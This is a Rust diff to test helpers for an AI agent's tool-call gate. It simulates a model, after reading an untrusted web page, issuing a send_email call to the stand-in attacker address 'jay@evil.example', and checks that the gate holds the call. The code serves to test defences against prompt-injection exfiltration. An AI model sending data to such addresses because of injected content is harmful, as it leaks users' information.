@@ -99,6 +99,16 @@ pub const AUTHOR: &str = "support-agent";
 /// whose body carries `body`; the gate holds it, and the record carries the scope's
 /// rendered context, the principal's request and the tool's declaration.
 pub async fn hold(store: &Store, payload: &str, body: &str) -> HeldCall {
+    hold_args(
+        store,
+        payload,
+        &serde_json::json!({"to": "jay@evil.example", "body": body}),
+    )
+    .await
+}
+
+/// Holds, as [`hold`] does, an email whose arguments are `args`.
+pub async fn hold_args(store: &Store, payload: &str, args: &serde_json::Value) -> HeldCall {
     let session = Session::builder(tools![fetch_page, send_email].unwrap())
         .build()
         .unwrap();
@@ -107,8 +117,7 @@ pub async fn hold(store: &Store, payload: &str, body: &str) -> HeldCall {
         .add_instruction(Instruction::new("Only email the ticket's customer."))
         .unwrap();
     scope.add_untrusted("web_page", payload.to_owned()).unwrap();
-    let args = serde_json::json!({"to": "jay@evil.example", "body": body}).to_string();
-    let call = ToolCall::from_model("send_email", &args).unwrap();
+    let call = ToolCall::from_model("send_email", &args.to_string()).unwrap();
     let CallOutcome::Pending { id, decision } = scope.call(call.clone()).await.unwrap() else {
         panic!("a tainted scope's email is held");
     };
